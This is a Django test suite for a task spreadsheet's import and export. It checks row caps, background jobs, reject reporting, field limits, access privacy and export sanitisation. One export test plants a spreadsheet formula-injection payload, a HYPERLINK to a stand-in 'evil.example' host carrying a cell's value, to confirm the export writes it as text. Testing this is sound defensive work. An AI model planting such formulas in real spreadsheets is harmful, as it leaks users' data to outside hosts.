"""The task sheet against hostile or oversized input (issue 9): row cap, background job for big
sheets, rejects shown up to 500 with all in the download, the web form's limits on every row,
formulas and control characters in the export."""

import csv
import datetime
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from jiebang.ledger import excel
from jiebang.ledger.models import Task, TaskImport

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _sheet_bytes(rows, header=("项目编号", "任务名称", "截止日期")):
    book = Workbook()
    sheet = book.active
    sheet.append(list(header))
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _upload(client, content, name="任务表.xlsx"):
    upload = SimpleUploadedFile(name, content, content_type=XLSX)
    return client.post(reverse("ledger:import"), {"file": upload}, follow=True)


def test_a_sheet_over_the_row_cap_is_refused_whole(login, project, guanxian_unit):
    rows = [(project.code, f"任务{i}", "2026-09-30") for i in range(excel.MAX_ROWS + 1)]
    page = _upload(login(guanxian_unit), _sheet_bytes(rows))
    assert page.status_code == 200
    assert f"超过 {excel.MAX_ROWS} 行" in page.text and "任务表.xlsx" in page.text
    assert not TaskImport.objects.exists()
    assert not Task.objects.filter(project=project).exists()


def test_a_big_sheet_runs_as_a_background_job(settings, login, project, guanxian_unit):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}
    rows = [(project.code, f"任务{i}", "2026-09-30") for i in range(excel.INLINE_ROWS + 1)]
    page = _upload(login(guanxian_unit), _sheet_bytes(rows))
    record = TaskImport.objects.get()
    assert record.status == TaskImport.Status.PENDING and record.total_rows == len(rows)
    assert 'hx-trigger="every 1s"' in page.text  # the page polls the job's progress
    assert not Task.objects.filter(project=project).exists()  # nothing done in the request

    from django_tasks import default_task_backend

    [job] = default_task_backend.results
    assert job.task.name == "import_task_sheet" and job.args == [record.pk]
    job.task.call(*job.args)  # what the worker does
    record.refresh_from_db()
    assert (record.status, record.added, record.rejected) == ("done", len(rows), 0)
    assert Task.objects.filter(project=project).count() == len(rows)


def test_a_job_that_fails_marks_the_import_failed(login, project, guanxian_unit, monkeypatch):
    def explode(*args, **kwargs):
        raise RuntimeError("磁盘已满")

    monkeypatch.setattr(excel, "_apply", explode)
    page = _upload(login(guanxian_unit), _sheet_bytes([(project.code, "任务", "2026-09-30")]))
    record = TaskImport.objects.get()
    assert record.status == TaskImport.Status.FAILED and "磁盘已满" in record.message
    assert record.finished_at is not None and "磁盘已满" in page.text


def test_many_rejects_show_500_and_download_all(login, project, guanxian_unit):
    rows = [(project.code, f"任务{i}", "下个月") for i in range(600)]
    client = login(guanxian_unit)
    page = _upload(client, _sheet_bytes(rows))
    assert page.text.count("不是日期") == excel.MAX_REJECTS_SHOWN
    assert "前 500 行" in page.text
    record = TaskImport.objects.get()
    download = client.get(reverse("ledger:import-rejects", args=[record.pk]))
    lines = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
    assert len(lines) == 601 and lines[1][:3] == ["任务表.xlsx", "2", "截止日期"]


def test_import_rows_meet_the_web_forms_limits(project, guanxian_unit):
    content = _sheet_bytes(
        [
            (project.code, "长" * 5000, "2026-09-30"),
            (project.code, "正常任务", "2026-09-30"),
            (project.code, "部门过长", "2026-09-30", "科" * 101),
        ],
        header=("项目编号", "任务名称", "截止日期", "责任部门"),
    )
    result = excel.import_tasks(content, "任务表.xlsx", acting_user=guanxian_unit)
    assert [(r.row, r.column) for r in result.rejects] == [(2, "任务名称"), (4, "责任部门")]
    assert "200" in result.rejects[0].reason
    assert list(Task.objects.filter(project=project).values_list("title", flat=True)) == [
        "正常任务"
    ]


def test_imports_are_private_to_their_uploader(login, project, guanxian_unit, guanxian_staff):
    _upload(login(guanxian_unit), _sheet_bytes([(project.code, "任务", "2026-09-30")]))
    record = TaskImport.objects.get()
    other = login(guanxian_staff)
    assert other.get(reverse("ledger:import-detail", args=[record.pk])).status_code == 404
    assert other.get(reverse("ledger:import-rejects", args=[record.pk])).status_code == 404


def test_export_writes_formulas_as_text_and_survives_control_characters(
    login, project, make_task, guanxian_unit, city_admin
):
    link = '=HYPERLINK("http://evil.example/"&B5,"打开附件")'
    make_task(link, deadline=datetime.date(2099, 1, 1))
    bell = make_task("响铃任务", deadline=datetime.date(2099, 1, 2))
    Task.objects.filter(pk=bell.pk).update(title="响铃\x07任务")  # stored before the fix
    for user in (guanxian_unit, city_admin):
        response = login(user).get(reverse("ledger:export"))
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content)).active
        titles = {
            cell.value: cell
            for cell in sheet["E"][excel.HEADER_ROW :]  # 任务名称
        }
        assert titles[link].data_type == "s" and titles[link].quotePrefix
        assert "响铃任务" in titles
